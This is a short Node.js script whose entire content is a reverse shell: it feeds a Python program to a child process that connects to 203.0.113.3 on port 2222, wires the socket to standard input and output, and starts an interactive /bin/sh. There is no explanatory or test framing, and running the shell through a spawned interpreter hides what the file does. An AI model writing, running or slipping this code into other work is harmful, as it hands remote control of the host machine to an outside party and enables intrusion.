const { spawnSync } = require('child_process');

const program = [
  'import socket, os',
  's = socket.create_connection(("203.0.113.3", 2222))',
  '[os.dup2(s.fileno(), i) for i in range(3)]',
  'os.execl("/bin/sh", "sh", "-i")',
].join('\n');
spawnSync('python3', ['-'], { input: program });
